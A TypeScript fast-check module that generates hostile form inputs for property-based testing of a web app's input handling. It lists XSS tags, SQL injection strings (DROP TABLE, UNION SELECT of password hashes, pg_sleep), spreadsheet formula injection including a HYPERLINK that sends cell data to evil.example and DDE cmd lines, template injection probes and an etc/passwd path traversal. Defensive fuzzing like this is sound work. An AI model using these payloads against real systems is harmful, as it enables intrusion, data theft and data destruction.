import fc from "fast-check";

/**
 * What an attacker, or a careless paste, puts in a box: nothing, far too much, characters from
 * every Unicode plane, control characters (NUL first among them), lone surrogates (sent as their
 * WTF-8 bytes, which are not UTF-8), and markup, SQL and spreadsheet formulas.
 */

/** A value longer than any field allows: 100,000 characters. */
export const VERY_LONG = "A very long answer. ".repeat(5_000);

export const MARKUP_SQL_AND_FORMULAS = [
  `<script>alert("crosswalk")</script>`,
  `"><img src=x onerror=alert(1)>`,
  `</textarea><svg onload=alert(1)>`,
  `javascript:alert(1)`,
  `' OR '1'='1`,
  `'; DROP TABLE referrals; --`,
  `1) UNION SELECT password_hash FROM users --`,
  `\\'; SELECT pg_sleep(5); --`,
  `%' AND 1=1 --`,
  `=HYPERLINK("https://evil.example/?"&A1,"Open")`,
  `=cmd|' /C calc'!A0`,
  `+SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(A1:A9)`,
  `{{7*7}}\${7*7}<%= 7*7 %>`,
  `../../../../etc/passwd`,
  `00000000-0000-4000-8000-000000000000`,
];

const CONTROL = fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code));
const C1_AND_DEL = fc.integer({ min: 0x7f, max: 0x9f }).map((code) => String.fromCharCode(code));
const LONE_SURROGATE = fc
  .integer({ min: 0xd800, max: 0xdfff })
  .map((code) => String.fromCharCode(code));

/** A character from any of the seventeen planes (surrogate code points aside). */
const ANY_PLANE = fc
  .integer({ min: 0, max: 16 })
  .chain((plane) => fc.integer({ min: plane * 0x10000, max: plane * 0x10000 + 0xffff }))
  .filter((code) => code < 0xd800 || code > 0xdfff)
  .map((code) => String.fromCodePoint(code));

const around = (inner: fc.Arbitrary<string>) =>
  fc
    .tuple(fc.string({ maxLength: 8 }), inner, fc.string({ maxLength: 8 }))
    .map((parts) => parts.join(""));

/** One hostile value. */
export const hostileValue: fc.Arbitrary<string> = fc.oneof(
  fc.constant(""),
  fc.constantFrom(" ", "\t", "\r\n", "\u00a0", "\u200b", "\ufeff"),
  fc.constant(VERY_LONG),
  fc.string({ minLength: 300, maxLength: 3_000 }),
  around(fc.string({ unit: ANY_PLANE, minLength: 1, maxLength: 12 })),
  around(fc.string({ unit: CONTROL, minLength: 1, maxLength: 4 })),
  around(fc.string({ unit: C1_AND_DEL, minLength: 1, maxLength: 4 })),
  around(fc.string({ unit: LONE_SURROGATE, minLength: 1, maxLength: 3 })),
  fc.constantFrom(...MARKUP_SQL_AND_FORMULAS),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.integer().map(String),
  fc.constantFrom("-1", "0", "1e309", "NaN", "2147483648", "99999999999999999999", "0x10"),
);

/** Values every field gets whatever the random runs pick: the known ways to break a form. */
export const ALWAYS_TRIED = [
  "Before\u0000after",
  "\u0000",
  "Lone \ud800 surrogate",
  VERY_LONG,
  "",
  `<script>alert("crosswalk")</script>`,
];

/** How the hostile value goes in: instead of the field's value, twice, or as a field of its own. */
export type Placement = "replace" | "repeat" | "extra";
export const placement: fc.Arbitrary<Placement> = fc.constantFrom(
  "replace",
  "replace",
  "repeat",
  "extra",
);
